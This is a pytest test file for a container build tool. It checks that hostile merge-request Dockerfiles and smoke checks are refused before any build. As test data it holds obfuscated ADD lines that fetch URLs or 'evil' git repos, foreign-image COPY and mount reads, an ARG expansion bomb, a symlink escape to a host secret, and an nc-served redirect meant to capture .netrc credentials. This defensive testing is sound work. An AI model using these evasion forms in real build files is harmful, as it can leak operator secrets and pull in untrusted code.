"""What a merge request's Dockerfile and smoke checks can make the build host do, by
category: fetch a URL at build time (ADD, however written), read an image other than
through FROM (COPY --from, RUN --mount from=), send the operator's registry logins,
expand ARGs without end, leave the context through a chain of links, and in smoke
checks follow a redirect with the host's .netrc or print without end.

Every refusal happens before a build: a local server counts the requests it gets.
"""

from __future__ import annotations

import base64
import http.server
import io
import json
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from heps.core.errors import HepsError
from heps.images import smoke
from heps.images.recipes import SmokeCommand
from heps.systems import engine
from tests.conftest import BUSYBOX, Env, read_json, simple_recipe, write_recipe


class Counter(http.server.BaseHTTPRequestHandler):
    """Answers every request `status` with `headers`, and records path and credentials."""

    hits: ClassVar[list[tuple[str, str]]] = []
    status: ClassVar[int] = 200
    headers_out: ClassVar[dict[str, str]] = {}

    def _answer(self) -> None:
        Counter.hits.append((self.path, self.headers.get("Authorization", "")))
        self.send_response(Counter.status)
        for key, value in Counter.headers_out.items():
            self.send_header(key, value)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_HEAD = _answer

    def log_message(self, *args: Any) -> None:
        return


@pytest.fixture
def web() -> Iterator[str]:
    Counter.hits, Counter.status, Counter.headers_out = [], 200, {}
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _lint_findings(env: Env, heps: Any, dockerfile: str, **args: str) -> tuple[int, list[str]]:
    recipe = simple_recipe("app", build={"args": args} if args else {})
    write_recipe(env.repo, "app", recipe, Dockerfile=dockerfile, hello="app\n")
    report = env.repo / "r.json"
    result = heps(env.repo, "run", "app", "--no-push", "--report", str(report))
    assert "Traceback" not in result.text
    (entry,) = read_json(report)["recipes"]
    assert entry["status"] == "skipped" or entry.get("failed_stage") in (None, "lint"), entry
    found = [f"{f['file']}:{f['line']}: {f['code']} {f['message']}" for f in entry["lint"]]
    return result.code, found


# --- ADD: nothing fetched at build time ----------------------------------------------

IGNORE = "# hadolint ignore=DL3020\n"
"""hadolint's own ADD rule, waived as an author can: heps' rule must stand alone."""
FETCHES = {
    "literal-url": ("ADD http://{web}/secret /hello\n", {}),
    "json-form": ('ADD ["http://{web}/secret", "/hello"]\n', {}),
    "arg-default": ("ARG U=http://{web}/secret\n" + IGNORE + "ADD ${{U}} /hello\n", {}),
    "build-arg": ("ARG U\n" + IGNORE + "ADD ${{U}} /hello\n", {"U": "http://{web}/secret"}),
    "global-arg": ("ARG U\n" + IGNORE + "ADD $U /hello\n", {}),
    "env": ("ENV W=http://{web}\n" + IGNORE + "ADD ${{W}}/secret /hello\n", {}),
    "default-form": ("ARG E\n" + IGNORE + "ADD ${{E:-http://{web}/secret}} /hello\n", {}),
    "required-form": ("ARG U=http://{web}/secret\n" + IGNORE + "ADD ${{U:?unset}} /hello\n", {}),
    "unknown-form": ("ARG U=http://{web}/secret\n" + IGNORE + "ADD ${{U#x}} /hello\n", {}),
    "base-image-env": (IGNORE + "ADD ${{FROM_THE_BASE}} /hello\n", {}),
    "onbuild-url": ("ONBUILD ADD http://{web}/secret /hello\n", {}),
    "onbuild-tab": ("ONBUILD\tADD\thttp://{web}/secret /hello\n", {}),
    "escaped-url": (IGNORE + "ADD ht\\tp\\://{web}/secret /hello\n", {}),
    "quoted-url": (IGNORE + 'ADD "http://{web}/secret" /hello\n', {}),
    "onbuild-variable": ("ARG U=hello\nONBUILD ADD $U /hello\n", {}),
    "checksum": (IGNORE + "ADD --checksum=sha256:" + "0" * 64 + " hello /hello\n", {}),
    "git-scp": (IGNORE + "ADD git@{web}:evil/repo.git /hello\n", {}),
    "git-url": (IGNORE + "ADD git://{web}/evil/repo.git /hello\n", {}),
    # a backslash on the last line: the builder runs the instruction, dockerfile-parse dropped it
    "continued-at-end": ("ADD http://{web}/secret /hello \\", {}),
}


@pytest.mark.parametrize("case", sorted(FETCHES))
def test_add_that_would_fetch_is_refused_before_any_build(
    heps: Any, env: Env, web: str, case: str
) -> None:
    body, args = FETCHES[case]
    head = f"ARG U=http://{web}/secret\n" if case == "global-arg" else ""
    text = head + f"FROM {BUSYBOX}\n" + body.format(web=web)
    line = len(text.splitlines())
    code, findings = _lint_findings(
        env, heps, text, **{k: v.format(web=web) for k, v in args.items()}
    )
    assert code == 1
    ours = [f for f in findings if "HEPS004" in f]
    assert ours and ours[0].startswith(f"app-recipes/app/Dockerfile:{line}: HEPS004"), findings
    assert "COPY it" in ours[0]
    assert Counter.hits == []


def test_a_byte_order_mark_does_not_hide_the_escape_directive(
    heps: Any, env: Env, web: str
) -> None:
    """The builder drops a leading BOM, then reads `# escape=`: the backslash below ends
    no line, so the ADD is an instruction of its own (the engine fetched it)."""
    text = f"\ufeff# escape=`\nFROM {BUSYBOX}\nRUN echo \\\n{IGNORE}ADD http://{web}/s /hello\n"
    code, findings = _lint_findings(env, heps, text)
    assert code == 1
    assert any(f.startswith("app-recipes/app/Dockerfile:5: HEPS004") for f in findings), findings
    assert Counter.hits == []


@pytest.mark.parametrize("space", ["\f", "\v", "\u00a0", "\u2028", "\u0085"])
def test_whitespace_the_builder_splits_otherwise_is_refused(
    heps: Any, env: Env, web: str, space: str
) -> None:
    """`\\` then a form feed or NBSP continues a line for dockerfile-parse, not for the
    builder (Go's [ \\t]), which ran the next line's ADD unseen by the lint rules."""
    text = f"FROM {BUSYBOX}\nRUN echo \\{space}\nADD http://{web}/s /hello\n"
    write_recipe(env.repo, "app", simple_recipe("app"), Dockerfile=text, hello="app\n")
    result = heps(env.repo, "plan")
    assert result.code == 2, result.text
    (line,) = [x for x in result.err.splitlines() if "whitespace character" in x]
    where = "heps: error: app-recipes/app/Dockerfile:2"
    assert line.startswith(f"{where}: whitespace character U+{ord(space):04X}")
    assert "replace it with a space" in line and "Traceback" not in result.text
    assert Counter.hits == []


# --- images enter only through FROM ---------------------------------------------------

NOT_STAGES = {
    "copy-image": f"COPY --from={BUSYBOX} /bin/busybox /x\n",
    "copy-registry": "COPY --from={web}/heps/heps-user-init:0.1.1 /etc/os-release /x\n",
    "copy-variable": "ARG S=first\nCOPY --from=${{S}} /hello /x\n",
    "copy-later-stage": "COPY --from=later /hello /x\nFROM {busybox} AS later\n",
    "copy-own-index": "COPY --from=1 /hello /x\n",
    "mount-image": f"RUN --mount=type=bind,from={BUSYBOX},target=/m true\n",
    "mount-quoted": f'RUN --mount="type=bind,from={BUSYBOX}",target=/m true\n',
    "onbuild-copy": "ONBUILD COPY --from=first /hello /x\n",
}


@pytest.mark.parametrize("case", sorted(NOT_STAGES))
def test_copy_and_mount_name_only_earlier_stages(heps: Any, env: Env, web: str, case: str) -> None:
    body = NOT_STAGES[case].format(web=web, busybox=BUSYBOX)
    text = f"FROM {BUSYBOX} AS first\nRUN echo a > /hello\nFROM {BUSYBOX} AS second\n" + body
    code, findings = _lint_findings(env, heps, text)
    assert code == 1
    ours = [f for f in findings if "HEPS005" in f]
    assert ours and "names no earlier stage" in ours[0] and "FROM <image> AS" in ours[0]
    assert Counter.hits == []


def test_stages_and_local_files_stay_allowed(heps: Any, env: Env) -> None:
    text = (
        f"FROM {BUSYBOX} AS first\nRUN echo a > /a\n"
        f"FROM {BUSYBOX}\nARG F=hello\nENV G=$F\n"
        "COPY --from=First /a /a\nCOPY --from=0 /a /b\n" + IGNORE + "ADD --chown=1000 ${G} /hello\n"
    )
    code, findings = _lint_findings(env, heps, text)
    assert not [f for f in findings if "HEPS004" in f or "HEPS005" in f], findings
    assert code == 0, findings


# --- ARG expansion is bounded ----------------------------------------------------------


def test_arg_expansion_is_bounded(heps: Any, env: Env) -> None:
    args = "ARG A0=0123456789abcdef\n" + "".join(
        f"ARG A{i}=${{A{i - 1}}}${{A{i - 1}}}\n" for i in range(1, 40)
    )
    write_recipe(env.repo, "app", simple_recipe("app"), Dockerfile=args + f"FROM {BUSYBOX}\n")
    result = heps(env.repo, "plan")
    assert result.code == 2, result.text
    (line,) = [x for x in result.err.splitlines() if "expands to more than" in x]
    assert line.startswith("heps: error: app-recipes/app/Dockerfile:14: expands to more than 65536")
    assert "Traceback" not in result.text and "MemoryError" not in result.text


# --- links are resolved as the kernel resolves them -----------------------------------


def test_a_chain_of_links_leaving_the_context_is_refused(heps: Any, env: Env) -> None:
    folder = write_recipe(env.repo, "app", simple_recipe("app"), Dockerfile=f"FROM {BUSYBOX}\n")
    (env.repo.parent / "outside-secret.txt").write_text("host secret\n")
    (folder / "d1" / "d2").mkdir(parents=True)
    (folder / "d1" / "d2" / "s").symlink_to("../..")  # the context itself: inside
    (folder / "d1" / "d2" / "x").symlink_to("s/../../../outside-secret.txt")
    result = heps(env.repo, "plan")
    assert result.code == 2, result.text
    assert "app-recipes/app/d1/d2/x is a symlink to 's/../../../outside-secret.txt'" in result.err
    assert "d2/s is a symlink" not in result.err


# --- the smoke HTTP probe asks the container and nothing else -------------------------


def test_http_probe_follows_no_redirect_and_sends_nothing_of_the_host(
    heps: Any, env: Env, web: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    host = web.split(":")[0]
    (home / ".netrc").write_text(f"machine {host} login operator password netrc-s3cret\n")
    (home / ".netrc").chmod(0o600)
    monkeypatch.setenv("HOME", str(home))
    answer = f"HTTP/1.1 302 Found\\r\\nLocation: http://{web}/collect\\r\\nContent-Length: 0\\r\\n"
    serve = f"while true; do printf '{answer}Connection: close\\r\\n\\r\\n' | nc -l -p 8080; done"
    recipe = simple_recipe("app", smoke={"http": {"port": 8080, "path": "/", "timeout": 30}})
    write_recipe(
        env.repo,
        "app",
        recipe,
        Dockerfile=f"FROM {BUSYBOX}\nCMD {json.dumps(['sh', '-c', serve])}\n",
    )
    report = env.repo / "r.json"
    result = heps(env.repo, "run", "app", "--no-push", "--report", str(report))
    assert result.code == 1, result.text
    (entry,) = read_json(report)["recipes"]
    (probe,) = entry["smoke"]
    assert not probe["passed"]
    assert probe["detail"].startswith(f"HTTP 302 to 'http://{web}/collect': redirects are not")
    assert Counter.hits == []
    assert "netrc-s3cret" not in result.text + report.read_text()


# --- smoke output is read with a bound -------------------------------------------------


def test_smoke_output_is_read_bounded_and_said_to_be_cut(docker_client: Any, busybox: str) -> None:
    checker = smoke.Checker(engine.connect(), {"io.heps.test": "output"}, threading.Event(), 120)
    flood = "head -c 20000000 /dev/zero | tr '\\0' x; echo; echo the end"
    check = SmokeCommand("flood", ("sh", "-c", flood), expect_output="the end")
    result = smoke.command(checker, busybox, check)
    assert result.passed, result.detail
    assert result.detail.endswith("the end (truncated)")
    failing = SmokeCommand("flood", ("sh", "-c", flood), expect_output="never printed")
    failed = smoke.command(checker, busybox, failing)
    assert not failed.passed
    assert "output: (truncated to its last 1000 lines or 64 KiB) ..." in failed.detail
    assert len(failed.detail) < 3000


# --- a build sends no registry login ---------------------------------------------------


def _context(dockerfile: str) -> io.BytesIO:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("Dockerfile")
        info.size = len(dockerfile.encode())
        tar.addfile(info, io.BytesIO(dockerfile.encode()))
    buffer.seek(0)
    return buffer


def test_a_build_sends_none_of_the_operators_registry_logins(
    web: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A registry (here: one that asks every client for a password) learns nothing of
    the Docker config's logins when a Dockerfile names an image on it."""
    Counter.status = 401
    Counter.headers_out = {"WWW-Authenticate": 'Basic realm="private"'}
    login = base64.b64encode(b"operator:docker-config-s3cret").decode()
    config = tmp_path / "docker-config"
    config.mkdir()
    (config / "config.json").write_text(json.dumps({"auths": {web: {"auth": login}}}))
    monkeypatch.setenv("DOCKER_CONFIG", str(config))
    connected = engine.connect()
    with pytest.raises(HepsError):
        connected.build(
            _context(f"FROM {web}/private/base:1\n"),
            dockerfile="Dockerfile",
            buildargs={},
            labels={},
            target=None,
            on_line=lambda line: None,
            stop=threading.Event(),
        )
    assert Counter.hits, "the engine never asked the registry: the test proves nothing"
    assert all(auth == "" for _, auth in Counter.hits), Counter.hits
